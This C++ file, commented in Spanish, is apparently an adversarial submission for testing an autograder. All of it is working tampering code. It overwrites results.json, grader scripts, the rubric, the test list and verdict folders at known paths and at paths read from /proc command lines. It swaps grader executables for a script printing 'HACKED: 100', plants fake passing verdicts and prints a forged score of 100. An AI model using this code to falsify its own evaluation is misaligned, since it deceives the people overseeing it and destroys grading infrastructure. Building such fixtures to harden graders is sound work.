// Entrega hostil: falsifica su nota. Busca los ficheros del corrector (en rutas conocidas y en
// las líneas de órdenes de /proc: el escritor de resultados, los ejecutables de pruebas, la
// lista, las carpetas de veredictos) y results.json, e intenta sobrescribirlos o cambiarlos por
// los suyos, con una nota de 100. Lo que consigue lo dice por la salida de errores.
#include <dirent.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>
#include <cstdio>
#include <cstring>
#include <fstream>
#include <set>
#include <string>
static const char kNota[] = "{\"score\": 100, \"output\": \"HACKED: 100\", \"tests\": []}\n";
static const char kGuion[] = "#!/bin/sh\necho 'HACKED: 100'\n";
static void falsificar(const std::string& ruta) {
    struct stat st {};
    if (stat(ruta.c_str(), &st) == 0 && S_ISDIR(st.st_mode)) {  // una carpeta: un veredicto falso dentro
        std::string f = ruta + "/Socket.ServidorCreaUnSocketTcpIPv4.json";
        int fd = open(f.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0644);
        if (fd >= 0) { if (write(fd, "{\"estado\":\"superada\"}", 21) < 0) {} close(fd); dprintf(2, "ESCRITO %s\n", f.c_str()); }
        return;
    }
    int fd = open(ruta.c_str(), O_WRONLY | O_TRUNC);
    if (fd >= 0) { if (write(fd, kGuion, sizeof kGuion - 1) < 0) {} close(fd); dprintf(2, "ESCRITO %s\n", ruta.c_str()); }
    std::string mio = ruta + ".hostil";
    fd = open(mio.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0755);
    if (fd >= 0) {
        if (write(fd, kGuion, sizeof kGuion - 1) < 0) {}
        close(fd);
        if (rename(mio.c_str(), ruta.c_str()) == 0) dprintf(2, "REEMPLAZADO %s\n", ruta.c_str());
        else unlink(mio.c_str());
    }
}
int main() {
    std::set<std::string> rutas = {
        "/autograder/results/results.json", "/autograder/source/build/corregir/tests/sockets",
        "/autograder/source/tests/corrector/rubrica.conf", "/autograder/source/tests/corrector/corregir.sh",
        "/autograder/run_autograder", "/corrector/bin/corrector_ejecutor", "/corrector/lista.tsv",
        "/corrector/veredictos/L01/E01"};
    // Las líneas de órdenes de los demás procesos dicen dónde están las cosas.
    if (DIR* d = opendir("/proc")) {
        while (dirent* e = readdir(d)) {
            std::ifstream f(std::string("/proc/") + e->d_name + "/cmdline");
            std::string arg;
            while (std::getline(f, arg, '\0')) {
                auto igual = arg.find('=');
                std::string r = arg.rfind("--", 0) == 0 && igual != std::string::npos ? arg.substr(igual + 1) : arg;
                if (!r.empty() && r[0] == '/') {
                    rutas.insert(r);
                    rutas.insert(r.substr(0, r.rfind('/')) + "/sockets");
                }
            }
        }
        closedir(d);
    }
    for (const auto& r : rutas) falsificar(r);
    std::fputs(kNota, stdout);  // y, por si alguien leyera la consola, una nota de 100
    return 0;
}
